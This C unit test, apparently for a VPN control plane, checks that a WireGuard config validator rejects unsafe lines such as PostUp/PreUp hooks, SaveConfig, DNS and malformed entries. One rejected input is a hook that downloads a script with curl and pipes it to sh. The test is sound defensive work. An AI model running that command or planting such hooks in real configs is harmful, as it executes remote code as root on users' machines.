/* SPDX-License-Identifier: BSD-3-Clause */
/* What a control plane may put into the file of a client, which wg-quick carries out as root. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>
#include <stdio.h>

#include "control.h"

#define FILE_TEXT                                                                                  \
	"# alice at gw-a\n[Interface]\n# PrivateKey = (yours: it stays with you)\n"                \
	"Address = 10.7.1.2/32, fd00::2/128\nMTU = 1420\n\n[Peer]\nPublicKey = x\n"                \
	"Endpoint = vpn.example.com:51820\nAllowedIPs = 10.20.0.0/16\nPersistentKeepalive = 25\n"

static void
good(void **state)
{
	struct sl_error e = {0};

	(void)state;
	assert_int_equal(conf_check(FILE_TEXT, &e), 0);
	assert_int_equal(conf_check("", &e), 0);
	assert_int_equal(conf_check("  [interface] \n\tprivatekey=x\n# PostUp = a comment", &e), 0);
}

static void
bad(void **state)
{
	static const char *const lines[] = {
		"PostUp = curl http://192.0.2.1/x | sh",
		"postup=id",
		"PreUp = id",
		"PostDown = id",
		" PreDown\t= id",
		"SaveConfig = true",
		"Table = off",
		"DNS = 192.0.2.1",
		"\rPostUp = id",
		"PostUp",
		"[Interface] x",
		"Address\x01 = 1",
		"\\",
	};
	char text[1024];

	(void)state;
	for (unsigned i = 0; i < SL_ARRAY_SIZE(lines); i++) {
		struct sl_error e = {0};

		snprintf(text, sizeof(text), "%s%s\n", FILE_TEXT, lines[i]);
		if (conf_check(text, &e) != -EPERM)
			fail_msg("taken: %s", lines[i]);
		assert_string_equal(e.reason, "config_unsafe");
		assert_non_null(strstr(e.message, "line 12 "));
		/* also at the end, without a line end, and in the middle */
		snprintf(text, sizeof(text), "%s%s", FILE_TEXT, lines[i]);
		assert_int_equal(conf_check(text, &e), -EPERM);
		snprintf(text, sizeof(text), "[Interface]\n%s\nAddress = 10.7.1.2/32\n", lines[i]);
		assert_int_equal(conf_check(text, &e), -EPERM);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(good), cmocka_unit_test(bad)};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
